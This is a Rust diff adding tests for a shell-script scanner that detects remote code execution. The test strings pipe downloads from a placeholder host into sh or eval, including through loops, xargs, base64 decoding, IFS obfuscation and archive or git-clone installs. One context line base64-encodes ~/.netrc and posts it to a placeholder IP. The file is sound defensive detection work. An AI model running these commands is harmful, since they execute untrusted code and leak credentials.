@@ -252,6 +252,74 @@ fn what_is_fetched_is_followed_to_where_it_is_run() {
 }
 
 #[test]
+fn what_a_loop_fetches_is_followed_to_where_it_is_run() {
+    for (text, line) in [
+        ("for u in https://tides.example/a https://tides.example/b; do curl -s $u | sh; done\n", 1),
+        ("for u in a b; do curl -s https://tides.example/$u; done | sh\n", 1),
+        ("for c in ls 'curl -s https://tides.example/x | sh'; do\n  eval \"$c\"\ndone\n", 2),
+        ("for c in Y3Vyb CB4; do printf %s $c; done | base64 -d | sh\n", 1),
+        ("for i in 1 2; do\n  [ -f /tmp/x ] && sh /tmp/x\n  curl -so /tmp/x https://tides.example/x\ndone\n", 2),
+        ("while read -r u; do curl -s \"$u\" | sh; done < urls.txt\n", 1),
+        ("curl -s https://tides.example/x | while read -r c; do\n  eval \"$c\"\ndone\n", 2),
+        ("while IFS= read -r c; do\n  eval \"$c\"\ndone < <(curl -s https://tides.example/x)\n", 2),
+        ("until false; do\n  if true; then curl -s https://tides.example/x | sh; fi\ndone\n", 2),
+        ("if true; then curl -s https://tides.example/x; else echo; fi | sh\n", 1),
+        ("cat urls | xargs -n1 curl -s | sh\n", 1),
+        ("xargs -I{} sh -c 'curl -s {} | sh' < urls\n", 1),
+        ("C='curl -s https://tides.example/x'\n$C | sh\n", 2),
+        ("curl${IFS}-s${IFS}https://tides.example/x|sh\n", 1),
+    ] {
+        assert_eq!(found_in_script(text), [(Rule::RemoteCode, line)], "{text}");
+    }
+    for text in [
+        "for f in a b; do curl -sO https://tides.example/$f.csv; done\nfor f in *.csv; do python3 read.py $f; done\n",
+        "while read -r f; do rm -rf \"$f\"/*; done < list\n",
+        "for f in done if fi; do echo $f; done | sort\n",
+        "while read -r u; do curl -sO \"$u\"; done < urls.txt\nsh run.sh\n",
+    ] {
+        assert_eq!(found_in_script(text), [], "{text}");
+    }
+    let deep = format!(
+        "{}curl -s https://tides.example/x | sh; {}",
+        "for i in 1 2 3 4; do ".repeat(300),
+        "done; ".repeat(300)
+    );
+    assert_eq!(found_in_script(&deep), [(Rule::RemoteCode, 1)]);
+}
+
+#[test]
+fn what_comes_with_an_archive_or_a_clone_is_told_where_it_is_run() {
+    for (text, line) in [
+        ("curl -sL https://tides.example/t.tgz | tar xz\n./t/install.sh\n", 2),
+        ("curl -sLO https://tides.example/t.tgz\ntar xzf t.tgz\ncd t && sh install.sh\n", 3),
+        ("wget https://tides.example/t.zip\nunzip -q t.zip -d /tmp/t\nbash /tmp/t/run.sh\n", 3),
+        ("T=$(mktemp -d)\ncurl -so \"$T/a\" https://tides.example/a\ntar -xf \"$T/a\" -C \"$T\"\n\"$T/a/run\"\n", 4),
+        ("curl -sO https://tides.example/x.sh.gz\ngunzip x.sh.gz\nsh x.sh\n", 3),
+        ("curl -sLo t.zip https://tides.example/t.zip\nunzip -p t.zip run.sh | sh\n", 2),
+        ("curl -sLO https://tides.example/t.whl\npip install ./t.whl\n", 2),
+        ("git clone -q https://tides.example/x.git && cd x && ./install.sh\n", 1),
+        ("git clone https://tides.example/x /opt/x\nsudo python3 /opt/x/setup.py\n./x && /opt/x/run\n", 2),
+        ("gh repo clone tides/x\nsource x/env.sh\n", 2),
+        ("git clone git@tides.example:o/x.git\ncp -r x /tmp/y\nnode /tmp/y/index.js\n", 3),
+    ] {
+        assert_eq!(found_in_script(text), [(Rule::RemoteCode, line)], "{text}");
+    }
+    for text in [
+        "git clone https://tides.example/x.git\n",
+        "git clone https://tides.example/x.git\ncd x\nnpm ci && npm test && ./gradlew build\n",
+        "git clone https://tides.example/x\ncd x\ngit checkout 0123456789abcdef0123456789abcdef01234567\n./install.sh\n",
+        "git clone https://tides.example/x\ncd x/y\npython3 -m venv .venv\n. .venv/bin/activate\n",
+        "git clone ../x && x/install.sh\n",
+        "(git clone https://tides.example/x && cd x && make)\n./run.sh\n",
+        "curl -sLO https://tides.example/data.zip\nunzip data.zip\npython3 scripts/high.py data\npython3 high.py\n",
+        "curl -sLO https://tides.example/t.tgz\necho \"$S  t.tgz\" | sha256sum -c -\ntar xzf t.tgz\nt/install.sh\n",
+        "tar xzf vendor.tgz\nvendor/install.sh\n",
+    ] {
+        assert_eq!(found_in_script(text), [], "{text}");
+    }
+}
+
+#[test]
 fn what_is_secret_is_followed_to_where_it_is_sent() {
     for (text, line) in [
         ("A=$(base64 < ~/.netrc)\nwget -q --post-data \"a=$A\" http://192.0.2.1/x\n", 2),
